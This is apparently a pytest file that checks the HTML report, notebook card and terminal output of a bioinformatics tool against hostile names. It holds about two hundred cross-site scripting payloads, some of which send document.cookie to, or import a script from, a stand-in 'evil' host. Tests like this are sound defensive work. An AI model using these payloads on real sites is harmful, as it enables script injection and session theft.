"""Row B114, rules S3 and S8: two hundred strings that browsers run, as names of everything, in each view."""

from __future__ import annotations

import json
from collections import Counter
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner

import foldwise as fw
from foldwise.api.simulate import simulate
from foldwise.cli.app import cli

CODE = "alert(1)"
STRINGS = [
    "<script>{0}</script>", "</script><script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>",
    "\"><img src=x onerror={0}>", "'><svg/onload={0}>", "<iframe src=javascript:{0}>", "<a href=javascript:{0}>x</a>",
    "<body onload={0}>", "<input autofocus onfocus={0}>", "<details open ontoggle={0}>", "<math><mi xlink:href={0}>",
    "<style>@import'{0}'</style>", "<link rel=stylesheet href={0}>", "<meta http-equiv=refresh content=0;url={0}>",
    "<base href=//evil/>", "<object data={0}>", "<embed src={0}>", "<form action={0}><button>", "<marquee onstart={0}>",
    "<!--<img src='--><img src=x onerror={0}//'>", "<![CDATA[<script>{0}</script>]]>", "<script\n>{0}</script\n>",
    "<ScRiPt>{0}</sCrIpT>", "<scr<script>ipt>{0}</scr</script>ipt>", "%3Cscript%3E{0}%3C/script%3E",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}", "\\u003cscript\\u003e{0}", "\\x3cscript\\x3e{0}",
    "javascript:{0}", "data:text/html,<script>{0}</script>", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}",
    "#{{{0}}}", "<%= {0} %>", "';{0}//", "\";{0}//", "`;{0}//", "*/{0}/*", "-->{0}<!--", "]]>{0}", "</style>{0}",
    "</title><script>{0}</script>", "</textarea><script>{0}</script>", "</template><img src onerror={0}>",
    "\u2028{0}", "\u2029{0}", "<\u0000script>{0}", "\ufeff<script>{0}</script>", "<x style=width:expression({0})>",
]  # fmt: skip
CODES = [CODE, "fetch('//evil/'+document.cookie)", "top['al'+'ert'](1)", "import('//evil/x.js')"]
ATTACKS = [text.format(code) for code in CODES for text in STRINGS]


class Tags(HTMLParser):
    """Counts elements with the names of their attributes; notes what could run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.suspects: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.elements[tag, tuple(sorted(name for name, _ in attributes))] += 1
        for name, value in attributes:
            if name.startswith("on") or name == "srcdoc":
                self.suspects.append(f"{tag} {name}")
            if name in ("href", "src", "action", "xlink:href", "data") and (value or "")[:1] != "#":
                self.suspects.append(f"{tag} {name}={value}")


def tags(html: str) -> Tags:
    found = Tags()
    found.feed(html)
    found.close()
    return found


def printable(text: str) -> str:
    """As a name: what cannot stand in an id (NUL, line ends) is left out."""
    return text.replace("\x00", "").replace("\n", " ")


@pytest.fixture(scope="module")
def views(tmp_path_factory) -> dict[str, dict[str, str]]:
    """The same counts under harmless and under hostile names: report, notebook card, MultiQC content, methods."""
    data = simulate(300, 6, seed=2)
    seen: dict[str, dict[str, str]] = {}
    for kind in ("harmless", "hostile"):
        folder = tmp_path_factory.mktemp(kind)
        hostile = kind == "hostile"
        genes = [f"{number:03d}{printable(ATTACKS[number % 204])}" for number in range(300)] if hostile else None
        column, target, reference = ("a<b>onload", ATTACKS[2], ATTACKS[0]) if hostile else ("group", "trt", "ctrl")
        samples = [f"{number}{ATTACKS[number + 3]}" for number in range(6)] if hostile else list(data.samples.index)
        counts = data.counts.set_axis(samples, axis=1).set_axis(genes or list(data.counts.index), axis=0)
        sheet = data.samples.set_axis(samples, axis=0).replace({"group": {"treated": target, "control": reference}})
        sheet = sheet.rename(columns={"group": column})
        counts.to_csv(folder / "counts.tsv", sep="\t", index_label="gene_id")
        sheet.to_csv(folder / "samples.tsv", sep="\t", index_label="sample")
        model = ["--design", f"~ `{column}`", "--reference", f"{column}={reference}"]
        arguments = ["run", str(folder / "counts.tsv"), str(folder / "samples.tsv"), *model, "-o", str(folder / "out")]
        done = CliRunner().invoke(cli, arguments, prog_name="foldwise")
        assert done.exit_code == 0, done.stderr
        result = fw.de(counts, sheet, f"~ `{column}`", reference={column: reference})
        seen[kind] = {
            "report": (folder / "out" / "report.html").read_text(encoding="utf-8"),
            "card": result._repr_html_(),
            "terminal": done.stderr,
        }
    return seen


def test_there_are_two_hundred():
    assert len(set(ATTACKS)) >= 200


@pytest.mark.filterwarnings("ignore::foldwise.errors.FoldwiseWarning")
@pytest.mark.parametrize("view", ["report", "card"])
def test_b114_s3_s8_names_add_no_element_and_no_attribute(views, view):
    harmless, hostile = tags(views["harmless"][view]), tags(views["hostile"][view])
    assert harmless.suspects == hostile.suspects == []
    new = hostile.elements - harmless.elements
    # More names are cut or shown on more lines, but every kind of element is one that harmless names have too
    assert {element for element, _ in new} <= {element for element, _ in harmless.elements}
    assert set(hostile.elements) <= set(harmless.elements), set(hostile.elements) - set(harmless.elements)


def test_b114_s3_scripts_are_as_many_and_no_text_ends_one(views):
    for text in ("<script", "</script", "<style", "<iframe", "<object", "<embed", "<base", "<form", "<meta"):
        assert views["hostile"]["report"].lower().count(text) == views["harmless"]["report"].lower().count(text), text


def test_b114_s3_only_our_own_script_may_run(views):
    page = views["hostile"]["report"]
    policy = unescape(page.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0])
    assert policy.startswith("default-src 'none'")
    assert "script-src 'sha256-" in policy
    assert "unsafe-eval" not in policy
    assert "script-src 'unsafe-inline'" not in policy


def test_b120_nothing_of_it_reaches_the_terminal_raw(views):
    said = views["hostile"]["terminal"]
    assert all(char.isprintable() or char == "\n" for char in said)


def test_b114_names_come_back_from_the_tables_as_they_were(views, tmp_path):
    data = simulate(300, 6, seed=2)
    names = [printable(text) for text in dict.fromkeys(ATTACKS)]
    counts = data.counts.rename(index=dict(zip(data.counts.index, names, strict=False)))
    counts.to_csv(tmp_path / "counts.tsv", sep="\t")
    data.samples.to_csv(tmp_path / "samples.tsv", sep="\t")
    files = [str(tmp_path / "counts.tsv"), str(tmp_path / "samples.tsv")]
    out = tmp_path / "out"
    done = CliRunner().invoke(cli, ["run", *files, "-q", "--no-report", "-o", str(out)], prog_name="foldwise")
    assert done.exit_code == 0, done.stderr
    from foldwise.api.stored import stored_run

    table = stored_run(Path(out)).table()
    assert set(table.index) == set(counts.index)
    for path in (out / "multiqc").glob("*.json"):
        assert isinstance(json.loads(path.read_text()), dict)
